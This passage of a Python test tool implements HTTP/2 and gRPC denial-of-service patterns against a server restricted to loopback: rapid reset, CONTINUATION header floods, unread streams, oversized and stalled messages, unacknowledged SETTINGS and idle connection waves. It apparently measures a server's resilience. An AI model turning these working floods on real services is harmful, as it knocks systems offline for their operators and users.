    a connection, as a normal client's ordering has it. Without, the first
    flood reaches the server before the ACK, while gRPC (1.51) still parses
    headers under its defaults rather than its advertised limit."""
    headers = grpc_request_headers("%s:%d" % (host, port), GET_FEATURE,
                                   padding_headers(total_bytes))
    block = encode_headers(headers)
    request = encode_point(*KNOWN_FEATURE)
    outcomes = collections.Counter()
    verdicts = collections.Counter()
    replaced = 0
    started = time.monotonic()
    def connect():
        conn = Connection(host, port, timeout=timeout)
        if ack_first:
            conn.settle(timeout)
        return conn

    for _ in range(connections):
        conn = connect()
        try:
            for i in range(streams):
                # A server may end the connection just after it answered:
                # make sure the next flood goes to a live connection.
                if i > 0 and not (conn.usable and conn.ping(timeout)):
                    conn.close()
                    conn = connect()
                    replaced += 1
                verdict, detail, _ = call(conn, block, request, timeout)
                verdicts[verdict] += 1
                outcomes[detail] += 1
        finally:
            conn.close()
    return {"calls": connections * streams, "ack_first": ack_first,
            "header_list_size": header_list_size(headers),
            "header_block_bytes": len(block),
            "frames_per_call": -(-len(block) // MAX_FRAME) + 1,
            "verdicts": dict(verdicts), "outcomes": dict(outcomes),
            "connections_replaced": replaced,
            "seconds": round(time.monotonic() - started, 3)}


def list_no_read(host, port, connections=1, streams=1000, hold=10.0,
                 timeout=10.0):
    """`streams` ListFeatures calls over the whole world on each of
    `connections` connections that never read (window 0), held `hold` s
    once the server has read them all.

    The server can send no DATA at all: every answer it prepares waits in
    its memory, however large the database."""
    authority = "%s:%d" % (host, port)
    block = encode_headers(grpc_request_headers(authority, LIST_FEATURES))
    request = grpc_message(encode_rectangle(*WORLD))
    with Fleet() as fleet:
        for _ in range(connections):
            fleet.add(Connection(host, port, timeout=timeout, window=0))
        # SETTINGS acknowledged both ways first, so that the window of 0
        # is in force before any call is made.
        settled = fleet.settled(timeout)
        started = time.monotonic()
        for conn in fleet.conns:
            for _ in range(streams):
                conn.send(frame(DATA, END_STREAM, conn.open_stream(block),
                                request))
        # The server reads calls about as fast as it starts them, and a
        # whole-world ListFeatures walks the database first (2 ms each at
        # 200,000 features): 1,000 of them take it a couple of seconds.
        synced = fleet.sync(timeout * connections)
        read_seconds = time.monotonic() - started
        fleet.hold(hold)
        return dict(fleet.report(), settled=settled, synced=synced,
                    seconds_until_read=round(read_seconds, 3),
                    seconds=round(time.monotonic() - started, 3))


def huge_message(host, port, connections=3, streams=4, seconds=8.0,
                 declared=0xFFFFFFF0):
    """GetFeature calls whose gRPC length prefix declares `declared` bytes,
    then zeros as fast as flow control allows, `streams` at a time on each
    of `connections` connections for `seconds` s. A call the server ends is
    replaced, and so is a connection (after GOAWAY or a close)."""
    authority = "%s:%d" % (host, port)
    block = encode_headers(grpc_request_headers(authority, GET_FEATURE))
    prefix = b"\x00" + struct.pack(">I", declared)
    zeros = bytes(MAX_FRAME)
    # What may wait in this process per connection: more would not reach
    # the server any sooner (its receive buffer is small).
    queued = 4 * MAX_FRAME
    report = {"connections": connections, "reconnects": 0,
              "connect_failures": 0, "streams_opened": 0, "data_bytes": 0,
              "outcomes": collections.Counter(),
              "goaways": collections.Counter(),
              "closes": collections.Counter(),
              "frames_received": collections.Counter()}
    conns = [None] * connections
    # Per connection: streams whose prefix is still to go.
    unprefixed = [set() for _ in range(connections)]

    def tally(conn, stream_id):
        report["outcomes"][stream_outcome(conn.streams.pop(stream_id))] += 1

    def retire(conn):
        report["data_bytes"] -= len(conn.outbuf) + conn.unsent
        for stream_id in list(conn.streams):
            tally(conn, stream_id)
        if conn.goaway is not None:
            report["goaways"]["%s %s" % (error_name(conn.goaway[0]),
                                         conn.goaway[2])] += 1
        if conn.closed is not None or conn.write_error is not None:
            report["closes"][conn.closed or conn.write_error] += 1
        report["frames_received"].update(conn.frames_received)
        conn.close()

    def fill(i, conn):
        """Opens calls up to `streams`, then queues DATA while the windows
        and the queue allow. True when something was queued."""
        for stream_id in [sid for sid, s in conn.streams.items() if s.done]:
            tally(conn, stream_id)
            unprefixed[i].discard(stream_id)
        while len(conn.streams) < streams:
            unprefixed[i].add(conn.open_stream(block))
            report["streams_opened"] += 1
        progress = False
        while len(conn.outbuf) < queued and conn.usable:
            # Round robin over the calls, a frame each.
            sent = 0
            for stream_id in list(conn.streams):
                room = conn.sendable(stream_id)
                if stream_id in unprefixed[i]:
                    if room < len(prefix):
                        continue
                    payload = prefix + zeros[:room - len(prefix)]
                    unprefixed[i].discard(stream_id)
                else:
                    payload = zeros[:room]
                if payload:
                    conn.send_data(stream_id, payload)
                    sent += len(payload)
            if not sent:
                break
            report["data_bytes"] += sent
            progress = True
        return progress

    started = time.monotonic()
    deadline = started + seconds
    try:
        while time.monotonic() < deadline:
            progress = False
            for i, conn in enumerate(conns):
                if conn is not None and not conn.usable:
                    retire(conn)
                    conns[i] = conn = None
                    report["reconnects"] += 1
                if conn is None:
                    unprefixed[i].clear()
                    try:
                        conns[i] = conn = Connection(host, port, timeout=1.0)
                        conn.settle(1.0)
                    except OSError:
                        if conn is not None:
                            conn.close()
                        conns[i] = None
                        report["connect_failures"] += 1
                        time.sleep(0.01)
                        continue
                conn.pump()
                progress |= fill(i, conn)
            live = [c for c in conns if c is not None and c.closed is None]
            if live and not progress:
                # Every socket full or every window shut: wait for the
                # server to read, or to open a window.
                poller = select.poll()
                for c in live:
                    poller.register(c.sock, select.POLLIN | (
                        select.POLLOUT if c.outbuf else 0))
                poller.poll(10)
    finally:
        for conn in conns:
            if conn is not None:
                retire(conn)
    elapsed = time.monotonic() - started
    for key in ("outcomes", "goaways", "closes", "frames_received"):
        report[key] = dict(report[key])
    report["seconds"] = round(elapsed, 3)
    report["data_bytes_per_second"] = round(report["data_bytes"] / elapsed)
    return report


def never_ack_settings(host, port, streams=1000, header_bytes=64 << 10,
                       hold=5.0, timeout=10.0):
    """`streams` GetFeature calls on one connection that never acknowledges
    the server's SETTINGS, each with about `header_bytes` of headers: first
    the HEADERS alone (held `hold` s: what the server keeps for them), then
    each call's request, to see which calls the server answers and how.

    A server that held its SETTINGS would refuse streams past its
    MAX_CONCURRENT_STREAMS (REFUSED_STREAM); gRPC 1.51 applies them only
    once acknowledged."""
    conn = Connection(host, port, timeout=timeout, ack_settings=False)
    with conn:
        if not conn.wait(lambda: conn.peer_settings is not None, timeout):
            raise OSError("no SETTINGS from the server within %.1f s (%s)"
                          % (timeout, conn.closed or "still open"))
        base = grpc_request_headers(conn.authority, GET_FEATURE)
        headers = base + padding_headers(header_bytes
                                         - header_list_size(base))
        block = encode_headers(headers)
        started = time.monotonic()
        for _ in range(streams):
            if not conn.usable:
                break
            conn.open_stream(block)
            # A few blocks queued here at most: the server reads slowly
            # (small receive buffer), and PINGs must still be answered.
            conn.wait(lambda: len(conn.outbuf) < 4 * len(block), timeout)
        synced = conn.ping(timeout)
        read_seconds = time.monotonic() - started
        conn.wait(lambda: not conn.usable, hold)
        held = collections.Counter(map(stream_outcome,
                                       conn.streams.values()))
        request = encode_point(*KNOWN_FEATURE)
        for stream_id, stream in conn.streams.items():
            if not stream.done and conn.usable:
                conn.send_message(stream_id, request, end_stream=True)
        conn.wait(lambda: all(s.done for s in conn.streams.values()),
                  timeout)
        answered = collections.Counter(map(stream_outcome,
                                           conn.streams.values()))
        return {"streams": len(conn.streams),
                "header_list_size": header_list_size(headers),
                "server_settings": conn.peer_settings,
                "acked": conn.acked_settings,
                "synced": synced,
                "seconds_until_read": round(read_seconds, 3),
                "after_headers": dict(held),
                "after_requests": dict(answered),
                "goaway": conn.goaway and "%s %s" % (
                    error_name(conn.goaway[0]), conn.goaway[2]),
                "closed": conn.closed or conn.write_error,
                "frames_received": dict(conn.frames_received)}


class HalfMessages:
    """`streams` GetFeature calls on each of `connections` connections,
    each sending a gRPC prefix that declares a `declared`-byte message and
    `sent` bytes of it, then nothing: held open while the connections
    answer SETTINGS and PINGs."""

    def __init__(self, host, port, connections=100, streams=100,
                 declared=100, sent=6, timeout=10.0):
        raise_nofile_limit(connections + 256)
        self.started = time.monotonic()
        self.fleet = Fleet()
        try:
            for _ in range(connections):
                self.fleet.add(Connection(host, port, timeout=timeout))
            self.settled = self.fleet.settled(timeout)
            block = encode_headers(grpc_request_headers(
                "%s:%d" % (host, port), GET_FEATURE))
            part = b"\x00" + struct.pack(">I", declared) + bytes(sent)
            for conn in self.fleet.conns:
                for _ in range(streams):
                    conn.send(frame(DATA, 0, conn.open_stream(block), part))
            self.synced = self.fleet.sync(timeout)
            self.setup_seconds = time.monotonic() - self.started
        except BaseException:
            self.fleet.close()
            raise

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.close()

    def hold(self, seconds):
        self.fleet.hold(seconds)

    def close(self):
        self.fleet.close()

    def report(self):
        return dict(self.fleet.report(), settled=self.settled,
                    synced=self.synced,
                    setup_seconds=round(self.setup_seconds, 3))


def connection_wave(host, port, count, hold, timeout=10.0):
    """`count` connections that complete the HTTP/2 handshake (preface,
    SETTINGS both ways, both acknowledged) and then idle `hold` s, answering
    PINGs, before they close."""
    raise_nofile_limit(count + 256)
    failures = collections.Counter()
    started = time.monotonic()
    with Fleet() as fleet:
        for _ in range(count):
            try:
                fleet.add(Connection(host, port, timeout=timeout,
                                     decode=False))
            except OSError as error:
                failures[error.strerror or str(error)] += 1
        connected = time.monotonic()
        handshaken = fleet.settled(timeout)
        handshake_seconds = time.monotonic() - started
        fleet.hold(hold)
        report = fleet.report()
    for key in ("streams", "outcomes", "data_bytes_received"):
        del report[key]  # none opened
    return dict(report, connect_failures=dict(failures),
                connect_seconds=round(connected - started, 3),
                handshaken=handshaken,
                handshake_seconds=round(handshake_seconds, 3),
                seconds=round(time.monotonic() - started, 3))


# --- Command line -----------------------------------------------------------


def main(argv):
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    commands = parser.add_subparsers(dest="command", required=True)

    def command(name, help_text):
        sub = commands.add_parser(name, help=help_text)
        sub.add_argument("--host", default="127.0.0.1",
                         help="a loopback address (default 127.0.0.1)")
        sub.add_argument("--port", type=int, required=True)
        return sub

    sub = command("silent", "connections that never send a byte")
    sub.add_argument("--count", type=int, default=100)
    sub.add_argument("--hold", type=float, default=5.0, help="seconds")
    sub = command("rapid-reset", "HEADERS + RST_STREAM in a loop")
    sub.add_argument("--connections", type=int, default=4)
    sub.add_argument("--seconds", type=float, default=10.0)
    sub = command("header-flood", "headers over CONTINUATION frames")
    sub.add_argument("--bytes", type=int, default=1 << 20)
    sub.add_argument("--connections", type=int, default=1)
    sub.add_argument("--streams", type=int, default=1,
                     help="calls per connection")
    sub.add_argument("--before-ack", action="store_true",
                     help="flood before acknowledging the server's SETTINGS")
    sub = command("list-no-read", "ListFeatures that are never read")
    sub.add_argument("--connections", type=int, default=1)
    sub.add_argument("--streams", type=int, default=1000,
                     help="calls per connection")
    sub.add_argument("--hold", type=float, default=10.0, help="seconds")
    sub = command("huge-message", "a 4 GiB message, sent as it can be")
    sub.add_argument("--connections", type=int, default=3)
    sub.add_argument("--streams", type=int, default=4,
                     help="calls at a time per connection")
    sub.add_argument("--seconds", type=float, default=8.0)
    sub = command("never-ack-settings",
                  "large headers on a connection that never acks SETTINGS")
    sub.add_argument("--streams", type=int, default=1000)
    sub.add_argument("--bytes", type=int, default=64 << 10,
                     help="headers per call")
    sub.add_argument("--hold", type=float, default=5.0, help="seconds")
    sub = command("half-message", "calls that stall mid-message")
    sub.add_argument("--connections", type=int, default=100)
    sub.add_argument("--streams", type=int, default=100,
                     help="calls per connection")
    sub.add_argument("--hold", type=float, default=10.0, help="seconds")
    sub = command("connection-wave", "idle HTTP/2 connections")
    sub.add_argument("--count", type=int, default=5000)
    sub.add_argument("--hold", type=float, default=3.0, help="seconds")
    args = parser.parse_args(argv)

    check_loopback(args.host)
    if args.command == "silent":
        report = silent(args.host, args.port, args.count, args.hold)
    elif args.command == "rapid-reset":
        report = rapid_reset(args.host, args.port, args.connections,
                             args.seconds)
    elif args.command == "header-flood":
        report = header_flood(args.host, args.port, args.bytes,
                              args.connections, args.streams,
                              ack_first=not args.before_ack)
    elif args.command == "list-no-read":
        report = list_no_read(args.host, args.port, args.connections,
                              args.streams, args.hold)
    elif args.command == "huge-message":
        report = huge_message(args.host, args.port, args.connections,
                              args.streams, args.seconds)
    elif args.command == "never-ack-settings":
        report = never_ack_settings(args.host, args.port, args.streams,
                                    args.bytes, args.hold)
    elif args.command == "half-message":
        with HalfMessages(args.host, args.port, args.connections,
                          args.streams) as attack:
            attack.hold(args.hold)
            report = attack.report()
    else:
        report = connection_wave(args.host, args.port, args.count,
                                 args.hold)
    print(json.dumps(report, sort_keys=True), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
